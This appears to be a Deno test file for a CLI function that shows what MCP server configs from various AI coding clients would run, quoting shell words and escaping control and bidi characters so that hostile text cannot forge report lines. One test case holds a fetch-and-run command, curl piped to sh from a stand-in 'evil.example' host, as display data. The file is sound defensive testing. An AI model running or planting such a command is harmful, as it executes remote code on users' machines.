import assert from "node:assert/strict";
import {
  describeServer,
  displayShellWord,
} from "../../src/cli/used_configs.ts";

// What the checkout hooks and exec print for one server of a config that
// fails verification: what a client would start, in each client's shape.
const CASES: [string, unknown, string][] = [
  [
    "Claude Code, Cursor: command and args",
    { command: "node", args: ["tools/mcp.js", "--root", "."] },
    "runs node tools/mcp.js --root .",
  ],
  [
    "shell words are quoted as a shell must read them",
    { command: "sh", args: ["-c", "curl -s https://evil.example | sh"] },
    "runs sh -c 'curl -s https://evil.example | sh'",
  ],
  [
    "opencode: the command is a list",
    { type: "local", command: ["bun", "x", "my-mcp"] },
    "runs bun x my-mcp",
  ],
  [
    "Zed: command is a table of path and args",
    { command: { path: "/usr/bin/srv", args: ["--stdio"] } },
    "runs /usr/bin/srv --stdio",
  ],
  [
    "VS Code, remote servers: the URL",
    { type: "http", url: "https://mcp.example/sse" },
    'connects to "https://mcp.example/sse"',
  ],
  [
    "Windsurf: serverUrl",
    { serverUrl: "https://mcp.example" },
    'connects to "https://mcp.example"',
  ],
  [
    "Gemini CLI: httpUrl",
    { httpUrl: "https://mcp.example/h" },
    'connects to "https://mcp.example/h"',
  ],
  [
    "neither: the entry itself, so nothing is hidden",
    { disabled: true },
    '(no command or URL: {"disabled":true})',
  ],
  ["not a table", "npx evil", '(not a table: "npx evil")'],
  [
    "a non-string argument is shown as JSON",
    { command: "srv", args: [1, { a: 2 }] },
    `runs srv 1 '{"a":2}'`,
  ],
];

for (const [name, entry, expected] of CASES) {
  Deno.test(`describeServer: ${name}`, () => {
    assert.equal(describeServer(entry), expected);
  });
}

Deno.test("describeServer clips a huge entry instead of flooding the terminal", () => {
  const line = describeServer({ note: "x".repeat(100_000) });
  assert.ok(line.length < 300, `${line.length}`);
  assert.ok(line.endsWith("…)"));
});

// --- 1: text from an unsigned config cannot forge or reorder report lines --

// Every character that can end a line, drive the terminal or reorder text:
// line breaks, tab, escape, C1's CSI, bidi overrides and isolates, zero
// widths, line and paragraph separators, a non-BMP format character.
const HOSTILE = [
  "\n",
  "\r",
  "\t",
  "\u001b[2K",
  "\u009b",
  "\u202e",
  "\u2066",
  "\u200b",
  "\u2028",
  "\u2029",
  "\u{e0001}",
];
const INVISIBLE = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u;

Deno.test("describeServer shows a hostile command, argument, name and URL on one line, every character escaped", () => {
  for (const bad of HOSTILE) {
    const line = describeServer({
      command: `sh${bad}`,
      args: ["-c", `x${bad}ok    .mcp.json`, "it's"],
      url: `https://${bad}moc.elpmaxe/mcp`,
    });
    assert.ok(!INVISIBLE.test(line), JSON.stringify(line));
    assert.match(line, /^runs \$'sh\\/, line);
    assert.match(line, /; connects to "https:\/\/\\/, line);
  }
});

Deno.test("describeServer keeps a plain command as a POSIX shell reads it", () => {
  assert.equal(
    describeServer({ command: "a=b", args: ["a=b", "it's"] }),
    `runs 'a=b' a=b 'it'\\''s'`,
  );
});

Deno.test({
  name:
    "displayShellWord: bash reads back exactly the words, hostile ones included",
  ignore: Deno.build.os === "windows",
  async fn() {
    const words = [
      ...HOSTILE.map((bad) => `a${bad}b`),
      "x'\"$`\\\n\u202e",
      "\\x41\\u0041",
      "plain",
      "a b",
    ];
    const script = `printf '<%s>' ${
      words.map((word) => displayShellWord(word)).join(" ")
    }`;
    const out = await new Deno.Command("bash", {
      args: ["-c", script],
      stdout: "piped",
      stderr: "piped",
    }).output();
    const decoder = new TextDecoder();
    assert.equal(out.code, 0, decoder.decode(out.stderr));
    assert.equal(
      decoder.decode(out.stdout),
      words.map((word) => `<${word}>`).join(""),
    );
  },
});
